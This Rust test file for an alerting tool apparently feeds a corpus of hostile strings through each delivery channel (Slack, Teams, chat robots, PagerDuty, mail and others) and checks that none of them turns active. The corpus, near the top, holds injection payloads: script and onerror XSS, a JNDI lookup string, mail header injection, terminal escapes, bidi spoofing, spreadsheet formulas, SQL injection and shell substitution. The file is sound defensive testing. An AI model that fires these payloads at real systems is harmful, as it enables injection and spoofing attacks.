//! One corpus of hostile strings through every receiver, read back by a parser of its format that is
//! not ours: nothing in them is active, and nothing of them is lost without being counted.

use std::sync::Arc;

use html5gum::{Token, Tokenizer};
use larum::alert::Alert;
use larum::deliver::stdout::{Format, line};
use larum::deliver::{Content, Message};
use larum::route::Attempt;
use mail_parser::MessageParser;
use serde_json::Value as Json;

use super::receivers::{
    Http, Play, Smtp, alert, alert_message, digest_message, every_http, message, receiver, taking,
    try_receiver,
};

/// Strings that an attacker would choose as a name.
fn corpus() -> Vec<String> {
    let mut corpus: Vec<String> = [
        // Slack: mentions, links, emphasis, entities, and entities that are there already.
        "<!channel> <!here|here> <@U012AB3CD> <#C024BE7LR> <!subteam^S1|x> @channel @here",
        "<https://evil.example|Sign in> <mailto:a@b.example|x>",
        "*bold* _it_ ~no~ `code` ```block``` > quote :skull: &lt;!channel&gt; &amp;",
        // HTML.
        "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href=//evil.example>x</a><!-- --><![CDATA[x]]>",
        "</td></table><h1>&lt;&#60;&quot;</h1><style>*{display:none}</style><svg/onload=1>",
        // Headers and bodies of mail.
        "x\r\nBcc: evil@example.net\r\nContent-Type: text/html\r\n\r\n<b>hi</b>\r\n.\r\nQUIT\r\n",
        "=?utf-8?B?PGI+aGk8L2I+DQpCY2M6IGV2aWxAZXhhbXBsZS5uZXQ=?= =?utf-8?q?=0D=0ABcc:x?=",
        "\n.\nMAIL FROM:<evil@example.net>\nFrom evil\n--boundary--",
        // Terminals.
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}31m\u{8}\u{8}\u{7f}\u{1b}]8;;http://evil.example\u{1b}\\x",
        // Direction, width, breaks, tags.
        "gpj.\u{202e}exe\u{202c} \u{2066}a\u{2069} \u{202a}\u{202b}\u{202d}\u{2067}\u{2068}\u{61c}\u{200e}\u{200f}",
        "a\u{200b}n\u{200c}a\u{200d}\u{2060}\u{feff}\u{ad}\u{180e}\u{e0041}\u{e007f}",
        "a\u{2028}b\u{2029}c\u{85}d\u{b}e\u{c}f\r\u{0}g",
        // Templates and formats.
        "{{ 7*7 }} {% for x in y %} ${jndi:ldap://evil.example/a} #{1+1} <%= 1 %> %s%n {0} $(id) `id`",
        "=HYPERLINK(\"http://evil.example\") +1 -1 @SUM(1) |calc",
        // What our own escapes and marks look like.
        "\\u{202e} \\u{5c}u{202e} \\n \\ \\\\ … (+7 characters) CORP\\user \\u{",
        // Broken text as it is kept: replaced.
        "caf\u{fffd} \u{fffd}\u{fffd}",
        // Mentions of group chats, and cards.
        "<at user_id=\"all\">everyone</at> </AT> <@all> @all @13800138000 <at id=all></at> [x](http://evil.example) **b**",
        "' OR 1=1 -- ; DROP TABLE alerts",
        "安娜 Ünïcödé e\u{301} 🦀👩 \u{10ffff}\u{fffe}",
        "  leading and  double  and trailing  ",
        "",
        " ",
    ]
    .map(str::to_owned)
    .into();
    corpus.extend(["<!channel>".repeat(105_000), "\u{202e}&".repeat(20_000), "🦀".repeat(20_000)]);
    corpus
}

/// Reads `\u{..}` back; independent of what writes it.
fn unescaped(text: &str) -> String {
    let mut parts = text.split("\\u{");
    let mut raw = parts.next().unwrap().to_owned();
    for part in parts {
        let (digits, rest) = part.split_once('}').unwrap();
        raw.push(char::from_u32(u32::from_str_radix(digits, 16).unwrap()).unwrap());
        raw.push_str(rest);
    }
    raw
}

/// Claims that `shown` is `raw` with its dangers spelt out, or the beginning of it and a count of what
/// is missing.
fn assert_tells(raw: &str, shown: &str) {
    assert!(shown.chars().count() <= 512, "{} characters", shown.chars().count());
    assert!(!shown.contains(deceives), "{shown:?}");
    let cut = shown.rsplit_once("… (+").filter(|_| raw.chars().count() > 400);
    let Some((kept, mark)) = cut else {
        assert_eq!(unescaped(shown), raw);
        return;
    };
    let kept = unescaped(kept);
    assert!(raw.starts_with(&kept), "{kept:?}");
    let missing: usize = mark.strip_suffix(" characters)").unwrap().parse().unwrap();
    assert_eq!(kept.chars().count() + missing, raw.chars().count());
}

/// Characters that hide, reorder or command, named one by one.
fn deceives(c: char) -> bool {
    matches!(c, '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{ad}' | '\u{61c}' | '\u{180e}'
        | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
        | '\u{e0000}'..='\u{e007f}')
}

/// The messages that a string can be in.
fn messages(raw: &str) -> Vec<Message> {
    let mut messages = vec![alert_message(raw), digest_message(raw)];
    for index in 0..2 {
        messages.push(Message { plain: true, ..messages[index].clone() });
    }
    messages
}

/// A line of JSON holds `raw` where the message has it.
fn assert_json(text: &str, message: &Message, raw: &str) {
    assert!(!text.contains(deceives));
    let json: Json = serde_json::from_str(text).unwrap();
    match &message.content {
        Content::Alert(_) if message.plain => {
            let title = json["title"].as_str().unwrap();
            assert!(!title.contains(deceives) && title.chars().count() <= 200);
            assert_eq!(json["id"], "1a".repeat(16));
        }
        Content::Alert(_) => assert_eq!(serde_json::from_value::<Alert>(json).unwrap(), alert(raw)),
        Content::Digest(_) if message.plain => assert_eq!(json["digest"]["groups"], Json::Array(Vec::new())),
        Content::Digest(_) => assert_eq!(json["digest"]["groups"][0]["group"], raw),
        Content::Probe | Content::Watchdog(_) => unreachable!(),
    }
}

#[tokio::test]
async fn a_webhook_holds_every_string_as_it_is() {
    let http = Http::start(|_| Play::status("200 OK")).await;
    let receiver = receiver(&format!("{{kind: webhook, url: \"{}\"}}", http.url("/")));
    for raw in corpus() {
        for message in messages(&raw) {
            assert_eq!(receiver.send(&message).await, Attempt::Delivered);
            let request = http.seen.lock().unwrap().pop().unwrap();
            assert_json(request.text(), &message, &raw);
        }
    }
}

#[tokio::test]
#[expect(clippy::disallowed_methods, reason = "reads back what was written")]
async fn a_file_holds_every_string_on_a_line_of_its_own() {
    let folder = tempfile::tempdir().unwrap();
    let mut secrets = larum::config::Secrets::default();
    secrets.folder = folder.path().to_owned();
    let receiver = try_receiver("{kind: file, path: alerts.ndjson}", &secrets).unwrap();
    let mut sent = Vec::new();
    for raw in corpus() {
        for message in messages(&raw) {
            assert_eq!(receiver.send(&message).await, Attempt::Delivered);
            sent.push((message, raw.clone()));
        }
    }
    let text = std::fs::read_to_string(folder.path().join("alerts.ndjson")).unwrap();
    assert_eq!(text.lines().count(), sent.len());
    for (line, (message, raw)) in text.lines().zip(&sent) {
        assert_json(line, message, raw);
    }
}

#[test]
fn a_terminal_is_given_one_line_of_plain_text() {
    for raw in corpus() {
        for message in messages(&raw) {
            for format in [Format::Text, Format::Ndjson] {
                let line = line(&message, format);
                let line = line.strip_suffix('\n').unwrap();
                assert!(!line.contains(deceives), "{line:?}");
            }
        }
        let shown = line(&alert_message(&raw), Format::Text);
        let (_, rest) = shown.split_once(" · user: ").unwrap();
        assert_tells(&raw, rest.split_once(" · count: 5 · asked: ").unwrap().0);
    }
}

/// Every string in a payload of Slack's that is shown, checked to be where nothing is parsed.
fn literal_texts(payload: &Json) -> Vec<String> {
    let keys = |json: &Json| json.as_object().unwrap().keys().cloned().collect::<Vec<_>>();
    let mut texts = Vec::new();
    for block in payload["blocks"].as_array().into_iter().flatten() {
        if block["type"] == "header" {
            assert_eq!(keys(block), ["type", "text"]);
            assert_eq!(keys(&block["text"]), ["type", "text", "emoji"]);
            assert_eq!(
                (&block["text"]["type"], &block["text"]["emoji"]),
                (&"plain_text".into(), &false.into())
            );
            texts.push(block["text"]["text"].as_str().unwrap().to_owned());
            continue;
        }
        assert_eq!(keys(block), ["type", "elements"]);
        assert_eq!(block["type"], "rich_text");
        for section in block["elements"].as_array().unwrap() {
            assert_eq!(section["type"], "rich_text_section");
            for element in section["elements"].as_array().unwrap() {
                assert_eq!(element["type"], "text", "no link, user, channel, broadcast or emoji");
                assert!(keys(element).iter().all(|key| ["type", "text", "style"].contains(&key.as_str())));
                texts.push(element["text"].as_str().unwrap().to_owned());
            }
        }
    }
    texts
}

/// What Slack shows for text that it parses, if nothing in it is markup.
fn mrkdwn_read(text: &str) -> String {
    assert!(!text.contains(['<', '>']), "{text}");
    let mut rest = text;
    while let Some((_, after)) = rest.split_once('&') {
        assert!(["amp;", "lt;", "gt;"].iter().any(|entity| after.starts_with(entity)), "{text}");
        rest = after;
    }
    for (at, _) in text.match_indices('@') {
        assert!(text[..at].ends_with(char::is_alphanumeric), "a mention: {text}");
    }
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
}

#[tokio::test]
async fn slack_is_given_nothing_that_it_would_parse() {
    let http = Http::start(|_| Play::body("200 OK", "ok")).await;
    let secrets = larum::config::Secrets::default().with("SLACK", &http.url("/"));
    let receiver = try_receiver("{kind: slack, url: env:SLACK}", &secrets).unwrap();
    for raw in corpus() {
        for message in messages(&raw) {
            assert_eq!(receiver.send(&message).await, Attempt::Delivered);
            let request = http.seen.lock().unwrap().pop().unwrap();
            let payload: Json = serde_json::from_slice(&request.body).unwrap();
            assert_eq!((&payload["mrkdwn"], &payload["link_names"]), (&false.into(), &false.into()));
            let text = mrkdwn_read(payload["text"].as_str().unwrap());
            assert!(!text.contains(deceives), "{text:?}");
            let texts = literal_texts(&payload);
            assert!(texts.iter().all(|text| text == "\n" || !text.contains(deceives) && !text.is_empty()));
            if matches!(message.content, Content::Alert(_)) && !message.plain {
                let user = texts.iter().position(|text| text == "user: ").unwrap();
                let shown = &texts[user + 1];
                assert_tells(&raw, if raw.is_empty() { "" } else { shown });
            }
        }
    }
}

/// What a group reads that a robot posts to: text of which nothing is parsed but mentions.
fn robot_read(kind: &str, body: &Json) -> Vec<String> {
    let text = match (kind, body["msg_type"].as_str()) {
        ("feishu", Some("post")) => {
            let post = &body["content"]["post"]["zh_cn"];
            let mut lines = vec![post["title"].as_str().unwrap().to_owned()];
            for line in post["content"].as_array().unwrap() {
                assert_eq!((line.as_array().unwrap().len(), &line[0]["tag"]), (1, &"text".into()));
                lines.push(line[0]["text"].as_str().unwrap().to_owned());
            }
            return lines;
        }
        ("feishu", _) => &body["content"]["text"],
        _ => {
            assert_eq!(body["msgtype"], "text");
            &body["text"]["content"]
        }
    };
    text.as_str().unwrap().split('\n').map(str::to_owned).collect()
}

#[tokio::test]
async fn a_robot_mentions_nobody() {
    for kind in ["dingtalk", "feishu", "wecom"] {
        let http = taking(kind).await;
        let (_, receiver) = every_http(&http).into_iter().find(|(other, _)| *other == kind).unwrap();
        for raw in corpus() {
            for message in messages(&raw) {
                assert_eq!(receiver.send(&message).await, Attempt::Delivered);
                let request = http.seen.lock().unwrap().pop().unwrap();
                let lines = robot_read(kind, &serde_json::from_slice(&request.body).unwrap());
                for line in &lines {
                    assert!(!line.contains(deceives), "{line:?}");
                    assert_no_mention(line);
                }
                if !matches!(message.content, Content::Alert(_)) || message.plain {
                    continue;
                }
                let user = lines.iter().find_map(|line| line.strip_prefix("user: ")).unwrap();
                assert_tells_or_is_cut(&raw, user);
            }
        }
    }
}

/// The texts that Teams shows of a message, line by line; all are runs, which know no Markdown.
fn card_lines(payload: &Json) -> Vec<String> {
    assert_eq!((&payload["type"], payload["attachments"].as_array().unwrap().len()), (&"message".into(), 1));
    let card = &payload["attachments"][0]["content"];
    let keys: Vec<&String> = card.as_object().unwrap().keys().collect();
    assert_eq!(keys, ["$schema", "type", "version", "msteams", "body"]);
    assert_eq!(card["msteams"], serde_json::json!({"width": "Full"}), "nobody is mentioned");
    let line = |block: &Json| {
        assert_eq!(block["type"], "RichTextBlock");
        let runs = block["inlines"].as_array().unwrap().iter();
        let text = runs.map(|run| {
            assert_eq!(run["type"], "TextRun");
            let known = ["type", "text", "weight", "size"];
            assert!(run.as_object().unwrap().keys().all(|key| known.contains(&key.as_str())));
            run["text"].as_str().unwrap()
        });
        text.collect::<String>()
    };
    card["body"].as_array().unwrap().iter().map(line).collect()
}

/// Claims that `shown` tells `raw`, or its beginning where there was no more room.
fn assert_tells_or_is_cut(raw: &str, shown: &str) {
    match shown.strip_suffix('…') {
        Some(kept) if raw.len() > 150 => assert!(raw.starts_with(&unescaped(kept)), "{shown}"),
        Some(_) | None => assert_tells(raw, shown),
    }
}

/// What the service behind `kind` shows as the user, and every other text that it is given.
fn read_by_service(kind: &str, body: &Json) -> (Option<String>, Vec<String>) {
    let prefixed =
        |lines: &[String]| lines.iter().find_map(|line| line.strip_prefix("user: ")).map(str::to_owned);
    match kind {
        "teams" => {
            let lines = card_lines(body);
            assert!(!lines.iter().any(|line| line.contains("{{")), "a function of a card");
            (prefixed(&lines), lines)
        }
        "pagerduty" => {
            let payload = &body["payload"];
            let user = payload["custom_details"]["user"].as_str().map(str::to_owned);
            let details = payload["custom_details"].as_object().into_iter().flatten();
            let texts = details.flat_map(|(name, value)| [name.clone(), value.as_str().unwrap().to_owned()]);
            (user, texts.chain([payload["summary"].as_str().unwrap().to_owned()]).collect())
        }
        "alertmanager" => {
            let mut texts = Vec::new();
            for alert in body.as_array().unwrap() {
                for (name, value) in alert["labels"].as_object().unwrap() {
                    let plain = name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
                    assert!(plain && !name.starts_with(|c: char| c.is_ascii_digit()), "{name}");
                    texts.push(value.as_str().unwrap().to_owned());
                }
                texts.push(alert["annotations"]["summary"].as_str().unwrap().to_owned());
            }
            let description = body[0]["annotations"]["description"].as_str().unwrap_or_default();
            let lines: Vec<String> = description.split('\n').map(str::to_owned).collect();
            (prefixed(&lines), [texts, lines].concat())
        }
        "smn" => {
            let structure: Json = serde_json::from_str(body["message_structure"].as_str().unwrap()).unwrap();
            let sms = structure["sms"].as_str().unwrap();
            assert!(sms.chars().count() <= 490 && !sms.contains(['[', ']', '【', '】']));
            let whole = structure["default"].as_str().unwrap();
            let mut lines: Vec<String> = whole.split('\n').map(str::to_owned).collect();
            let user = prefixed(&lines);
            lines.extend([sms, body["subject"].as_str().unwrap()].map(str::to_owned));
            (user, lines)
        }
        other => panic!("{other}"),
    }
}

#[tokio::test]
async fn services_are_given_text_and_nothing_else() {
    for kind in ["teams", "pagerduty", "alertmanager", "smn"] {
        let http = taking(kind).await;
        let (_, receiver) = every_http(&http).into_iter().find(|(other, _)| *other == kind).unwrap();
        for raw in corpus() {
            for message in messages(&raw) {
                assert_eq!(receiver.send(&message).await, Attempt::Delivered);
                let request = http.seen.lock().unwrap().pop().unwrap();
                let body = serde_json::from_slice(&request.body).unwrap();
                let (user, texts) = read_by_service(kind, &body);
                assert!(texts.iter().all(|text| !text.contains(deceives)), "{kind}: {texts:?}");
                if matches!(message.content, Content::Alert(_)) && !message.plain {
                    assert_tells_or_is_cut(&raw, &user.unwrap());
                }
            }
        }
    }
}

/// Claims that no chat finds a mention in a line.
fn assert_no_mention(line: &str) {
    for (at, _) in line.match_indices('@') {
        assert!(line[..at].ends_with(char::is_alphanumeric), "a mention: {line}");
    }
    let lower = line.to_lowercase();
    assert!(!lower.contains("<at") && !lower.contains("</at"), "a mention: {line}");
}

/// The text in the cells of a letter's table, row by row; nothing in it is a tag but ours.
fn cells(html: &str) -> Vec<String> {
    let (mut cells, mut within) = (Vec::new(), None);
    for token in Tokenizer::new(html) {
        let Ok(token) = token;
        match token {
            Token::StartTag(tag) => {
                let name = String::from_utf8(tag.name.to_vec()).unwrap();
                let known = ["html", "head", "meta", "body", "h3", "p", "table", "tr", "th", "td"];
                assert!(known.contains(&name.as_str()), "<{name}>");
                for attribute in tag.attributes.keys() {
                    let attribute = String::from_utf8(attribute.to_vec()).unwrap();
                    assert!(
                        ["charset", "cellpadding", "align", "valign"].contains(&attribute.as_str()),
                        "{attribute}"
                    );
                }
                within = matches!(name.as_str(), "th" | "td").then(String::new);
            }
            Token::EndTag(_) => cells.extend(within.take()),
            Token::String(text) => {
                if let Some(cell) = &mut within {
                    cell.push_str(std::str::from_utf8(&text).unwrap());
                }
            }
            Token::Doctype(_) => {}
            Token::Comment(_) | Token::Error(_) => panic!("{html}"),
        }
    }
    cells
}

#[tokio::test]
async fn mail_is_the_letter_that_was_meant_and_no_other() {
    let smtp = Smtp::start(|_| None).await;
    let receiver = smtp.receiver("soc@example.com", "");
    let known = [
        "From",
        "Date",
        "Message-ID",
        "Subject",
        "To",
        "Auto-Submitted",
        "X-Auto-Response-Suppress",
        "References",
        "In-Reply-To",
        "List-Id",
        "X-Larum-Rule",
        "X-Larum-Level",
        "X-Larum-Alert",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
    ];
    for raw in corpus() {
        for message in messages(&raw) {
            assert_eq!(receiver.send(&message).await, Attempt::Delivered);
            let letter = smtp.letters.lock().unwrap().drain(..).collect::<Vec<_>>();
            assert_eq!(letter.len(), 1, "one letter is one letter");
            assert!(letter[0].data.split(|byte| *byte == b'\n').all(|line| line.len() <= 1_000));
            let parsed = MessageParser::default().parse(&letter[0].data).unwrap();
            for header in parsed.headers() {
                assert!(
                    known.iter().any(|name| header.name().eq_ignore_ascii_case(name)),
                    "{}",
                    header.name()
                );
            }
            assert_eq!(parsed.to().unwrap().first().unwrap().address(), Some("soc@example.com"));
            let subject = parsed.subject().unwrap();
            assert!(!subject.contains(deceives), "{subject:?}");
            assert_eq!(parsed.parts.len(), if message.plain { 1 } else { 3 }, "text and html, no more");
            let text = parsed.body_text(0).unwrap();
            assert!(!text.contains(|c| c != '\r' && c != '\n' && deceives(c)), "{text:?}");
            if !matches!(message.content, Content::Alert(_)) || message.plain {
                continue;
            }
            if raw.chars().count() < 100 {
                assert_eq!(unescaped(subject).trim_end(), format!("[high] {raw}").trim_end());
            }
            let user = text.lines().find_map(|line| line.strip_prefix("user: ")).unwrap();
            assert_tells(&raw, user);
            let cells = cells(&parsed.body_html(0).unwrap());
            let user = cells.iter().position(|cell| cell == "user").unwrap();
            assert_tells(&raw, &cells[user + 1]);
        }
    }
}

#[test]
fn the_corpus_is_not_shown_as_it_is() {
    // A check that cannot fail proves nothing: most of the corpus must be caught by it.
    let caught = corpus().iter().filter(|raw| raw.contains(deceives)).count();
    assert!(caught >= 6, "{caught}");
    assert!(std::panic::catch_unwind(|| mrkdwn_read("a <!channel>")).is_err());
    assert!(std::panic::catch_unwind(|| mrkdwn_read("a @channel")).is_err());
    let card = |block: Json| {
        serde_json::json!({"type": "message", "attachments": [{"content": {"$schema": "", "type": "AdaptiveCard",
            "version": "1.4", "msteams": {"width": "Full"}, "body": [block]}}]})
    };
    let markdown = card(serde_json::json!({"type": "TextBlock", "text": "**b**"}));
    assert!(std::panic::catch_unwind(|| card_lines(&markdown)).is_err());
    assert!(std::panic::catch_unwind(|| assert_no_mention("a </AT>")).is_err());
    assert!(std::panic::catch_unwind(|| assert_no_mention("<@ana>")).is_err());
    assert!(std::panic::catch_unwind(|| cells("<td><b>x</b></td>")).is_err());
    assert!(std::panic::catch_unwind(|| assert_tells("abc", "ab")).is_err());
    let probe = message(1, Content::Alert(Arc::new(alert("\u{202e}"))));
    assert!(line(&probe, Format::Text).contains("\\u{202e}"));
}
